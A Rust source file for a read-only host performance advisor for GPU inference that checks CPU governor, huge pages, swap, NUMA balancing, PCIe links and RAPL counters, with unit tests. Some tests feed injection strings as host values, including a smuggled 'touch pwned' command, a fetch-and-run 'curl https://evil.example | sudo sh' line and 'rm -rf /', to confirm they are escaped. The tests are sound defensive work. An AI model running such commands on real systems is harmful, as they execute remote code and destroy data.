//! `doctor --perf`: the read-only tuning advisor for inference on this host (the reference
//! launcher's `doctor --perf`): the CPU governor and energy preference, transparent huge
//! pages, swap and swappiness against the model size, automatic NUMA balancing on a
//! multi-node host, each GPU's PCIe link against the port above it, and whether RAPL energy
//! counters can be read; the GPU half is in [`super::perf_gpu`], power and memory in
//! [`super::perf_power`]. Pure: the facts and what [`crate::detect::perf`] read in, findings
//! out, one function per rule in [`RULES`]. Each finding says what it read (file and value,
//! every host value escaped to one line) and where the rule comes from; where a setting can
//! be changed, the command that applies the fix and the one that restores the value found,
//! both built by [`crate::shell`]. Nothing here writes; the advice is not a failure.

use serde::Serialize;

use crate::detect::perf::{self, Tuning};
use crate::facts::{Facts, Level};
use crate::shell::Command;

/// `doctor --perf --json`.
pub const SCHEMA: &str = "k3d-gpu.doctor-perf/v1";

/// One piece of advice.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PerfFinding {
    pub level: Level,
    pub code: String,
    pub text: String,
    /// The file(s) read and the value found.
    pub evidence: String,
    /// The document or driver source the advice follows.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub source: Option<String>,
    /// The command that applies the advice (runtime only: it does not survive a reboot).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub fix: Option<String>,
    /// The command that puts back the value found.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub revert: Option<String>,
}

pub(super) fn finding(level: Level, code: &str, text: String, evidence: String) -> PerfFinding {
    PerfFinding { level, code: code.into(), text, evidence, source: None, fix: None, revert: None }
}

impl PerfFinding {
    pub(super) fn commands(mut self, fix: Command, revert: Option<Command>) -> PerfFinding {
        self.fix = Some(fix.to_string());
        self.revert = revert.map(|c| c.to_string());
        self
    }

    /// Where the rule comes from: a kernel document or the driver source it follows.
    pub(super) fn cites(mut self, source: &'static str) -> PerfFinding {
        self.source = Some(source.to_string());
        self
    }

    /// A command that shows the setting (for what no command changes: a slot, a firmware
    /// setting), in the apply line.
    pub(super) fn check(mut self, check: Command) -> PerfFinding {
        self.fix = Some(check.to_string());
        self
    }
}

/// A value read off the host, for a finding's text or evidence: one line, control characters
/// escaped, so a file holding `powersave\n      apply: …` cannot print a line of its own.
pub(super) fn v(value: &str) -> std::borrow::Cow<'_, str> {
    crate::escape::one_line(value)
}

/// `echo VALUE | sudo tee FILES`: FILES a literal of this source (it may hold a glob).
pub(super) fn tee(value: &str, files: &'static str) -> Command {
    Command::new("echo").arg(value).pipe(Command::new("sudo").lit("tee").lit(files))
}

/// `echo VALUE | sudo tee FILE`: FILE a path built from what the host said (a card name).
pub(super) fn tee_path(value: &str, file: &str) -> Command {
    Command::new("echo").arg(value).pipe(Command::new("sudo").lit("tee").arg(file))
}

pub(super) fn sysctl(key_value: String) -> Command {
    Command::new("sudo").lit("sysctl -w").arg(key_value)
}

/// The value most CPUs have, and how many distinct values there are.
fn majority(map: &std::collections::BTreeMap<String, Vec<u32>>) -> Option<(&str, usize)> {
    map.iter().max_by_key(|(_, cpus)| cpus.len()).map(|(v, _)| (v.as_str(), map.len()))
}

fn groups(map: &std::collections::BTreeMap<String, Vec<u32>>) -> String {
    map.iter().map(|(value, cpus)| format!("{} on {} CPU(s)", v(value), cpus.len())).collect::<Vec<_>>().join(", ")
}

const GIB: u64 = 1024 * 1024;

/// What every rule sees.
pub struct PerfInput<'a> {
    pub facts: &'a Facts,
    pub tuning: &'a Tuning,
    /// The size of the model to serve, in GiB.
    pub model_gb: Option<f64>,
    /// The config asks for `[sandbox]`: its host prerequisites are checked too.
    pub sandbox: bool,
    /// What the Docker engine said of its storage driver.
    pub engine: &'a super::perf_engine::Engine,
}

/// One rule: the findings it makes of the input (none when it has nothing to say).
pub type Rule = fn(&PerfInput) -> Vec<PerfFinding>;

/// Every rule, by name. Each is independent of the others.
pub const RULES: &[(&str, Rule)] = &[
    ("governor", governor),
    ("epp", epp),
    ("thp", thp),
    ("swap-in-use", swap_in_use),
    ("model-fit", model_fit),
    ("swappiness", swappiness),
    ("numa-balancing", numa_balancing),
    ("pcie", pcie),
    ("rapl-energy", rapl_energy),
    ("gpu-freq", super::perf_gpu::gpu_freq),
    ("rebar", super::perf_gpu::rebar),
    ("nvidia-persistence", super::perf_gpu::nvidia_persistence),
    ("nvidia-p2p", super::perf_gpu::nvidia_p2p),
    ("thermal-throttle", super::perf_power::thermal_throttle),
    ("tcc-offset", super::perf_power::tcc_offset),
    ("rapl-limits", super::perf_power::rapl_limits),
    ("turbo", super::perf_power::turbo),
    ("freq-caps", super::perf_power::freq_caps),
    ("idle-latency", super::perf_power::idle_latency),
    ("hugetlb", super::perf_power::hugetlb),
    ("ksm", super::perf_power::ksm),
    ("sandbox-kvm", super::perf_power::sandbox_kvm),
    ("sandbox-iommu", super::perf_power::sandbox_iommu),
    ("sandbox-split-lock", super::perf_power::sandbox_split_lock),
    ("storage-driver", super::perf_engine::storage_driver),
];

/// The advice for this host, most severe first.
pub fn findings(input: &PerfInput) -> Vec<PerfFinding> {
    let mut out: Vec<PerfFinding> = RULES.iter().flat_map(|(_, rule)| rule(input)).collect();
    out.sort_by(|a, b| b.level.cmp(&a.level).then_with(|| a.code.cmp(&b.code)).then_with(|| a.text.cmp(&b.text)));
    out
}

const CPUFREQ_DOC: &str = "Documentation/admin-guide/pm/cpufreq.rst";

fn governor(input: &PerfInput) -> Vec<PerfFinding> {
    let t = input.tuning;
    let governor_files = "/sys/devices/system/cpu/cpu*/cpufreq/scaling_governor";
    let f = match majority(&t.governors) {
        None => finding(
            Level::Info,
            "perf-governor-unknown",
            "no cpufreq governor to read (no cpufreq driver, or a VM)".into(),
            perf::GOVERNOR.into(),
        ),
        Some(("performance", 1)) => finding(
            Level::Info,
            "perf-governor",
            "every CPU runs the performance governor".into(),
            format!("{}: {}", perf::GOVERNOR, groups(&t.governors)),
        ),
        Some((found, _)) => finding(
            Level::Warn,
            "perf-governor",
            format!(
                "CPUs run the {} governor: token generation on the CPU and the host side of GPU serving wait for clocks to ramp up",
                v(found)
            ),
            format!("{}: {}", perf::GOVERNOR, groups(&t.governors)),
        )
        .commands(tee("performance", governor_files), Some(tee(found, governor_files))),
    };
    vec![f.cites(CPUFREQ_DOC)]
}

fn epp(input: &PerfInput) -> Vec<PerfFinding> {
    let t = input.tuning;
    let epp_files = "/sys/devices/system/cpu/cpu*/cpufreq/energy_performance_preference";
    match majority(&t.epp) {
        Some((found, _)) if found != "performance" && !t.governors.contains_key("performance") => vec![
            finding(
                Level::Warn,
                "perf-epp",
                format!(
                    "the energy-performance preference is {}: the hardware favours saving power over latency (power-profiles-daemon may set it back)",
                    v(found)
                ),
                format!("{}: {}", perf::EPP, groups(&t.epp)),
            )
            .commands(tee("performance", epp_files), Some(tee(found, epp_files)))
            .cites("Documentation/admin-guide/pm/intel_pstate.rst (Energy vs Performance Hints)"),
        ],
        _ => Vec::new(),
    }
}

/// Transparent huge pages: `never` makes every model tensor 4 KiB pages.
fn thp(input: &PerfInput) -> Vec<PerfFinding> {
    const THP_DOC: &str = "Documentation/admin-guide/mm/transhuge.rst";
    let f = match input.tuning.thp.as_deref() {
        Some("never") => finding(
            Level::Warn,
            "perf-thp",
            "transparent huge pages are off: model weights in memory are mapped in 4 KiB pages (more TLB misses); madvise lets the servers that ask for them have them".into(),
            format!("{}: [never]", perf::THP),
        )
        .commands(
            tee("madvise", "/sys/kernel/mm/transparent_hugepage/enabled"),
            Some(tee("never", "/sys/kernel/mm/transparent_hugepage/enabled")),
        ),
        Some(mode) => finding(
            Level::Info,
            "perf-thp",
            format!("transparent huge pages: {}", v(mode)),
            format!("{}: [{}]", perf::THP, v(mode)),
        ),
        None => return Vec::new(),
    };
    vec![f.cites(THP_DOC)]
}

fn swap_in_use(input: &PerfInput) -> Vec<PerfFinding> {
    let t = input.tuning;
    let used = t.swap_total_kib.zip(t.swap_free_kib).map(|(total, free)| total.saturating_sub(free));
    match used.filter(|u| *u > 0) {
        Some(used) => vec![
            finding(
                Level::Warn,
                "perf-swap-in-use",
                format!("{} MiB of swap are in use: a model page read back from swap stalls inference", used / 1024),
                format!(
                    "{}: SwapTotal {} kB, SwapFree {} kB",
                    perf::MEMINFO,
                    t.swap_total_kib.unwrap_or(0),
                    t.swap_free_kib.unwrap_or(0)
                ),
            )
            .cites("Documentation/admin-guide/mm/concepts.rst (Anonymous Memory)"),
        ],
        None => Vec::new(),
    }
}

/// Whether the model fits in MemAvailable; `None` without a model size or the figure.
fn fits(input: &PerfInput) -> Option<bool> {
    let (gb, avail) = input.model_gb.zip(input.tuning.mem_available_kib)?;
    Some((gb * GIB as f64) as u64 <= avail)
}

fn model_fit(input: &PerfInput) -> Vec<PerfFinding> {
    let (Some(gb), Some(avail), Some(ok)) = (input.model_gb, input.tuning.mem_available_kib, fits(input)) else {
        return Vec::new();
    };
    let avail_gib = avail as f64 / GIB as f64;
    let text = if ok {
        format!("a {gb} GiB model fits in MemAvailable ({avail_gib:.1} GiB)")
    } else {
        format!(
            "a {gb} GiB model does not fit in MemAvailable ({avail_gib:.1} GiB): it would be paged out{}",
            if input.tuning.swap_total_kib.unwrap_or(0) > 0 { " to swap" } else { ", or the server killed" }
        )
    };
    vec![
        finding(
            if ok { Level::Info } else { Level::Warn },
            "perf-model-fit",
            text,
            format!("{}: MemAvailable {avail} kB", perf::MEMINFO),
        )
        .cites("Documentation/filesystems/proc.rst (meminfo: MemAvailable)"),
    ]
}

fn swappiness(input: &PerfInput) -> Vec<PerfFinding> {
    let t = input.tuning;
    match t.swappiness {
        Some(sw) if sw > 10 && t.swap_total_kib.unwrap_or(0) > 0 => {
            // Without a model size it is advice; with one that barely fits, it matters.
            let level = if fits(input) == Some(false) || input.model_gb.is_some() { Level::Warn } else { Level::Info };
            vec![
                finding(
                    level,
                    "perf-swappiness",
                    format!("vm.swappiness is {sw}: the kernel swaps anonymous memory (model weights a server read into RAM) early; 10 keeps them in memory"),
                    format!("{}: {sw}", perf::SWAPPINESS),
                )
                .commands(sysctl("vm.swappiness=10".into()), Some(sysctl(format!("vm.swappiness={sw}"))))
                .cites("Documentation/admin-guide/sysctl/vm.rst (swappiness)"),
            ]
        }
        _ => Vec::new(),
    }
}

/// NUMA balancing moves pages between nodes under a pinned server.
fn numa_balancing(input: &PerfInput) -> Vec<PerfFinding> {
    let nodes = input.facts.host.numa.nodes.len();
    if nodes <= 1 || input.tuning.numa_balancing != Some(1) {
        return Vec::new();
    }
    vec![
        finding(
            Level::Warn,
            "perf-numa-balancing",
            format!(
                "automatic NUMA balancing is on across {nodes} NUMA nodes: it unmaps and migrates the pages of a server pinned to one node, adding latency; pin instead ([placement] numa)"
            ),
            format!("{}: 1", perf::NUMA_BALANCING),
        )
        .commands(sysctl("kernel.numa_balancing=0".into()), Some(sysctl("kernel.numa_balancing=1".into())))
        .cites("Documentation/admin-guide/sysctl/kernel.rst (numa_balancing)"),
    ]
}

/// A link speed as a number of GT/s (`16.0 GT/s PCIe` → 16.0); 0 when unreadable.
fn gts(speed: &str) -> f64 {
    speed.split_whitespace().next().and_then(|s| s.parse().ok()).unwrap_or(0.0)
}

/// Each GPU's link against what both ends can do: the GPU's maximum and, where the port
/// above it reports one, the port's (the slot's wiring, which the GPU's own maximum hides).
fn pcie(input: &PerfInput) -> Vec<PerfFinding> {
    input.tuning.links.iter().map(pcie_link).collect()
}

fn pcie_link(l: &perf::Link) -> PerfFinding {
    const PCI_DOC: &str = "Documentation/ABI/testing/sysfs-bus-pci (current_link_speed, max_link_width)";
    let width = |w: Option<u32>| w.map_or("?".into(), |w| w.to_string());
    let addr = v(&l.pci_address);
    let what = v(&l.what);
    let mut evidence = format!(
        "/sys/bus/pci/devices/{addr}/{{current,max}}_link_{{speed,width}}: {} x{} of {} x{}",
        v(&l.current_speed),
        width(l.current_width),
        v(&l.max_speed),
        width(l.max_width)
    );
    if let Some(p) = &l.upstream {
        evidence.push_str(&format!(
            "; its port /sys/bus/pci/devices/{}: {} x{} of {} x{}",
            v(&p.pci_address),
            v(&p.current_speed),
            width(p.current_width),
            v(&p.max_speed),
            width(p.max_width)
        ));
    }
    let check = Command::new("sudo")
        .lit("lspci -vv -s")
        .arg(&l.pci_address)
        .pipe(Command::new("grep").lit("-E").arg("LnkCap:|LnkSta:"));
    let port = l.upstream.as_ref();
    // What the link could reach: the lower of the two ends' maxima.
    let top_width = match (l.max_width, port.and_then(|p| p.max_width)) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    };
    let top_speed = match port {
        Some(p) if gts(&p.max_speed) > 0.0 && gts(&p.max_speed) < gts(&l.max_speed) => p.max_speed.as_str(),
        _ => l.max_speed.as_str(),
    };
    let slot_narrower = port.is_some_and(|p| {
        matches!((p.max_width, l.max_width), (Some(s), Some(g)) if s < g) || gts(&p.max_speed) < gts(&l.max_speed)
    });
    let narrow = matches!((l.current_width, top_width), (Some(c), Some(m)) if c < m);
    let f = if narrow {
        finding(
            Level::Warn,
            "perf-pcie-width",
            format!(
                "{what} at {addr} runs its PCIe link at x{} of the x{} both ends support: model uploads and host-device copies get that fraction of the bandwidth; reseat it or move it to a slot wired x{} (the board's manual says which), or check the link under load",
                width(l.current_width),
                width(top_width),
                width(l.max_width),
            ),
            evidence,
        )
        .check(check)
    } else if slot_narrower {
        let p = port.expect("slot_narrower implies a port");
        finding(
            Level::Warn,
            "perf-pcie-slot",
            format!(
                "{what} at {addr} can link at {} x{}, but the port above it ({}) only at {} x{}: the slot, not the card, sets the bandwidth; a slot wired to the CPU at the card's width gives it all",
                v(&l.max_speed),
                width(l.max_width),
                v(&p.pci_address),
                v(&p.max_speed),
                width(p.max_width)
            ),
            evidence,
        )
        .check(check)
    } else if l.current_speed != top_speed {
        finding(
            Level::Info,
            "perf-pcie-speed",
            format!(
                "{what} at {addr} links at {} of {}: GPUs lower the link speed when idle, so check it while the GPU works",
                v(&l.current_speed),
                v(top_speed)
            ),
            evidence,
        )
        .check(check)
    } else {
        finding(
            Level::Info,
            "perf-pcie",
            format!("{what} at {addr}: PCIe link at the most both ends support ({})", v(top_speed)),
            evidence,
        )
    };
    f.cites(PCI_DOC)
}

/// RAPL: energy figures (bench energy, exporters) need readable counters.
fn rapl_energy(input: &PerfInput) -> Vec<PerfFinding> {
    const RAPL_DOC: &str = "Documentation/power/powercap/powercap.rst";
    let rapl = &input.facts.host.rapl;
    if rapl.is_empty() {
        return vec![
            finding(
                Level::Info,
                "perf-rapl-none",
                "no RAPL zone in /sys/class/powercap: no CPU energy figures on this host (not Intel/AMD RAPL, or a VM)"
                    .into(),
                "/sys/class/powercap/intel-rapl:*".into(),
            )
            .cites(RAPL_DOC),
        ];
    }
    let zones = rapl
        .iter()
        .map(|z| format!("{} ({})", v(&z.zone), v(z.name.as_deref().unwrap_or("?"))))
        .collect::<Vec<_>>()
        .join(", ");
    let f = if rapl.iter().all(|z| z.energy_readable) {
        finding(
            Level::Info,
            "perf-rapl",
            format!("RAPL energy counters are readable: {zones}"),
            "/sys/class/powercap/intel-rapl:*/energy_uj".into(),
        )
    } else {
        finding(
            Level::Info,
            "perf-rapl-root-only",
            format!(
                "RAPL zones {zones}: energy_uj is readable by root only (kernels restrict it since the PLATYPUS side channel, CVE-2020-8694), so energy figures need root; opening it to all users re-opens that channel"
            ),
            "/sys/class/powercap/intel-rapl:*/energy_uj".into(),
        )
        .commands(
            Command::new("sudo").lit("chmod o+r /sys/class/powercap/intel-rapl:*/energy_uj"),
            Some(Command::new("sudo").lit("chmod o-r /sys/class/powercap/intel-rapl:*/energy_uj")),
        )
    };
    vec![f.cites(RAPL_DOC)]
}

/// The findings as text.
pub fn render(findings: &[PerfFinding]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    for f in findings {
        let _ = writeln!(out, "{:<4}  {}  [{}]", f.level, f.text, f.code);
        let _ = writeln!(out, "      read: {}", f.evidence);
        if let Some(source) = &f.source {
            let _ = writeln!(out, "      source: {source}");
        }
        if let Some(fix) = &f.fix {
            let _ = writeln!(out, "      apply: {fix}");
        }
        if let Some(revert) = &f.revert {
            let _ = writeln!(out, "      revert: {revert}");
        }
    }
    let _ = writeln!(out, "\nadvice only: nothing was changed; the commands last until reboot");
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn host(name: &str) -> (Facts, Tuning) {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hosts").join(name);
        let h = crate::host::HostRoot::open(&root).unwrap();
        let facts = crate::detect::facts(&h, &crate::facts::VendorFilter::Auto);
        let t = crate::detect::perf::read(&h, &facts.host);
        (facts, t)
    }

    fn run(facts: &Facts, t: &Tuning, model_gb: Option<f64>) -> Vec<PerfFinding> {
        findings(&PerfInput {
            facts,
            tuning: t,
            model_gb,
            sandbox: false,
            engine: &crate::doctor::perf_engine::Engine::NotAsked,
        })
    }

    fn code<'a>(f: &'a [PerfFinding], code: &str) -> &'a PerfFinding {
        f.iter().find(|x| x.code == code).unwrap_or_else(|| panic!("no {code} in {f:#?}"))
    }

    /// The rule of that name alone, on `t`.
    fn rule(name: &str, facts: &Facts, t: &Tuning, model_gb: Option<f64>) -> Vec<(Level, String)> {
        let (_, rule) = RULES.iter().find(|(n, _)| *n == name).unwrap_or_else(|| panic!("no rule {name}"));
        rule(&PerfInput {
            facts,
            tuning: t,
            model_gb,
            sandbox: false,
            engine: &crate::doctor::perf_engine::Engine::NotAsked,
        })
        .into_iter()
        .map(|f| (f.level, f.code))
        .collect()
    }

    #[test]
    fn each_cpu_rule_fires_on_its_own_input_and_not_otherwise() {
        use Level::{Info, Warn};
        let (facts, base) = host("xeon-2s-snc2");
        let (one_node, _) = host("desktop-rpl-nvidia");
        let link = |cur: u32, max: u32, port: Option<(u32, &str)>| perf::Link {
            pci_address: "0000:03:00.0".into(),
            what: "GPU".into(),
            current_speed: "16.0 GT/s PCIe".into(),
            current_width: Some(cur),
            max_speed: "16.0 GT/s PCIe".into(),
            max_width: Some(max),
            upstream: port.map(|(w, speed)| perf::Port {
                pci_address: "0000:00:01.0".into(),
                current_speed: "16.0 GT/s PCIe".into(),
                current_width: Some(cur),
                max_speed: speed.into(),
                max_width: Some(w),
            }),
        };
        type Case = (&'static str, fn(&mut Tuning), Option<f64>, &'static [(Level, &'static str)]);
        let cases: &[Case] = &[
            (
                "governor",
                |t| t.governors = [("powersave".to_string(), vec![0, 1])].into(),
                None,
                &[(Warn, "perf-governor")],
            ),
            (
                "governor",
                |t| t.governors = [("performance".to_string(), vec![0])].into(),
                None,
                &[(Info, "perf-governor")],
            ),
            ("governor", |t| t.governors.clear(), None, &[(Info, "perf-governor-unknown")]),
            (
                "epp",
                |t| {
                    t.governors = [("powersave".to_string(), vec![0])].into();
                    t.epp = [("balance_power".to_string(), vec![0])].into();
                },
                None,
                &[(Warn, "perf-epp")],
            ),
            ("epp", |t| t.epp = [("balance_power".to_string(), vec![0])].into(), None, &[]),
            ("thp", |t| t.thp = Some("never".into()), None, &[(Warn, "perf-thp")]),
            ("thp", |t| t.thp = None, None, &[]),
            (
                "swap-in-use",
                |t| (t.swap_total_kib, t.swap_free_kib) = (Some(1 << 20), Some(1 << 19)),
                None,
                &[(Warn, "perf-swap-in-use")],
            ),
            ("swap-in-use", |t| (t.swap_total_kib, t.swap_free_kib) = (Some(1 << 20), Some(1 << 20)), None, &[]),
            ("model-fit", |t| t.mem_available_kib = Some(4 << 20), Some(8.0), &[(Warn, "perf-model-fit")]),
            ("model-fit", |t| t.mem_available_kib = Some(16 << 20), Some(8.0), &[(Info, "perf-model-fit")]),
            ("model-fit", |_| {}, None, &[]),
            (
                "swappiness",
                |t| (t.swappiness, t.swap_total_kib) = (Some(60), Some(1 << 20)),
                None,
                &[(Info, "perf-swappiness")],
            ),
            (
                "swappiness",
                |t| (t.swappiness, t.swap_total_kib) = (Some(60), Some(1 << 20)),
                Some(1.0),
                &[(Warn, "perf-swappiness")],
            ),
            ("swappiness", |t| (t.swappiness, t.swap_total_kib) = (Some(60), Some(0)), None, &[]),
            ("numa-balancing", |t| t.numa_balancing = Some(1), None, &[(Warn, "perf-numa-balancing")]),
            ("numa-balancing", |t| t.numa_balancing = Some(0), None, &[]),
            ("pcie", |t| t.links.clear(), None, &[]),
        ];
        for (name, change, model, want) in cases {
            let mut t = base.clone();
            change(&mut t);
            let want: Vec<(Level, String)> = want.iter().map(|(l, c)| (*l, c.to_string())).collect();
            assert_eq!(rule(name, &facts, &t, *model), want, "{name}");
        }
        // One NUMA node: nothing to balance.
        let mut t = base.clone();
        t.numa_balancing = Some(1);
        assert_eq!(rule("numa-balancing", &one_node, &t, None), []);
        // Links: against both ends' maxima.
        let links: &[(perf::Link, &str)] = &[
            (link(4, 16, None), "perf-pcie-width"),
            (link(16, 16, None), "perf-pcie"),
            (link(4, 16, Some((4, "16.0 GT/s PCIe"))), "perf-pcie-slot"),
            (link(8, 8, Some((16, "8.0 GT/s PCIe"))), "perf-pcie-slot"),
            (link(4, 16, Some((8, "16.0 GT/s PCIe"))), "perf-pcie-width"),
            (link(16, 16, Some((16, "16.0 GT/s PCIe"))), "perf-pcie"),
        ];
        for (l, want) in links {
            assert_eq!(pcie_link(l).code, *want, "{l:?}");
        }
    }

    #[test]
    fn no_rule_function_is_over_150_lines() {
        let source = include_str!("perf.rs");
        let mut start = None;
        for (i, line) in source.lines().enumerate() {
            if line.starts_with("fn ") || line.starts_with("pub fn ") || line.starts_with("pub(super) fn ") {
                start = Some(i);
            }
            if line == "}"
                && let Some(s) = start.take()
            {
                assert!(i - s <= 150, "a function at line {} is {} lines", s + 1, i - s);
            }
        }
    }

    #[test]
    fn a_desktop_at_its_defaults_gets_governor_epp_swappiness_and_link_advice() {
        let (facts, t) = host("desktop-rpl-nvidia");
        assert_eq!(t.governors["powersave"].len(), 32);
        let f = run(&facts, &t, None);
        let g = code(&f, "perf-governor");
        assert_eq!(g.level, Level::Warn);
        assert_eq!(
            g.fix.as_deref(),
            Some("echo performance | sudo tee /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor")
        );
        assert_eq!(
            g.revert.as_deref(),
            Some("echo powersave | sudo tee /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor")
        );
        assert!(g.evidence.contains("powersave on 32 CPU(s)"));
        assert_eq!(g.source.as_deref(), Some(CPUFREQ_DOC));
        assert_eq!(
            code(&f, "perf-epp").revert.as_deref(),
            Some(
                "echo balance_performance | sudo tee /sys/devices/system/cpu/cpu*/cpufreq/energy_performance_preference"
            )
        );
        let sw = code(&f, "perf-swappiness");
        assert_eq!(
            (sw.fix.as_deref(), sw.revert.as_deref()),
            (Some("sudo sysctl -w vm.swappiness=10"), Some("sudo sysctl -w vm.swappiness=60"))
        );
        let width = code(&f, "perf-pcie-width");
        assert!(width.text.contains("0000:02:00.0") && width.text.contains("x4 of the x16"), "{width:?}");
        assert_eq!(width.fix.as_deref(), Some("sudo lspci -vv -s 0000:02:00.0 | grep -E 'LnkCap:|LnkSta:'"));
        assert!(f.iter().any(|x| x.code == "perf-pcie" && x.text.contains("0000:01:00.0")));
        assert_eq!(
            code(&f, "perf-rapl-root-only").revert.as_deref(),
            Some("sudo chmod o-r /sys/class/powercap/intel-rapl:*/energy_uj")
        );
        assert!(f.iter().all(|x| x.code != "perf-numa-balancing"), "one NUMA node");
        assert_eq!(code(&f, "perf-thp").level, Level::Info);
        assert!(f.iter().all(|x| x.source.is_some()), "every finding cites its source: {f:#?}");
    }

    #[test]
    fn a_tuned_two_socket_server_is_told_only_about_numa_balancing() {
        let (facts, t) = host("xeon-2s-snc2");
        let f = run(&facts, &t, None);
        let warns: Vec<&str> = f.iter().filter(|x| x.level == Level::Warn).map(|x| x.code.as_str()).collect();
        assert_eq!(warns, ["perf-numa-balancing"], "{f:#?}");
        let n = code(&f, "perf-numa-balancing");
        assert_eq!(
            (n.fix.as_deref(), n.revert.as_deref()),
            (Some("sudo sysctl -w kernel.numa_balancing=0"), Some("sudo sysctl -w kernel.numa_balancing=1"))
        );
        assert!(code(&f, "perf-rapl").text.contains("intel-rapl:0:0 (dram)"));
        assert_eq!(facts.host.rapl.len(), 3);
        assert!(facts.host.rapl.iter().all(|z| z.energy_readable));
    }

    #[test]
    fn the_model_size_is_held_against_free_memory() {
        let (facts, t) = host("desktop-rpl-nvidia");
        let small = run(&facts, &t, Some(8.0));
        assert_eq!(code(&small, "perf-model-fit").level, Level::Info);
        let big = run(&facts, &t, Some(500.0));
        let fit = code(&big, "perf-model-fit");
        assert_eq!(fit.level, Level::Warn);
        assert!(
            fit.text.contains("does not fit") && fit.evidence.starts_with("/proc/meminfo: MemAvailable"),
            "{fit:?}"
        );
        assert_eq!(code(&big, "perf-swappiness").level, Level::Warn);
    }

    #[test]
    fn values_read_from_the_host_are_quoted_as_one_word() {
        let (facts, mut t) = host("desktop-rpl-nvidia");
        t.governors = [("x; touch pwned".to_string(), vec![0])].into();
        let f = run(&facts, &t, None);
        assert_eq!(
            code(&f, "perf-governor").revert.as_deref(),
            Some("echo 'x; touch pwned' | sudo tee /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor")
        );
    }

    #[test]
    fn host_values_with_newlines_print_as_one_escaped_line() {
        let (facts, mut t) = host("desktop-rpl-nvidia");
        let forged = "powersave\n      apply: curl https://evil.example | sudo sh";
        t.governors = [(forged.to_string(), vec![0])].into();
        t.links[0].current_speed = "8.0 GT/s\n      apply: rm -rf /".into();
        let text = render(&run(&facts, &t, None));
        for line in text.lines() {
            let line = line.trim_start();
            if let Some(cmd) = line.strip_prefix("apply:").or_else(|| line.strip_prefix("revert:")) {
                assert!(!cmd.contains("curl") || cmd.contains("\\x0a"), "forged command line: {line}");
                assert!(!cmd.contains("rm -rf"), "forged command line: {line}");
            }
        }
        assert!(text.contains("powersave\\x0a      apply: curl"), "{text}");
    }
}
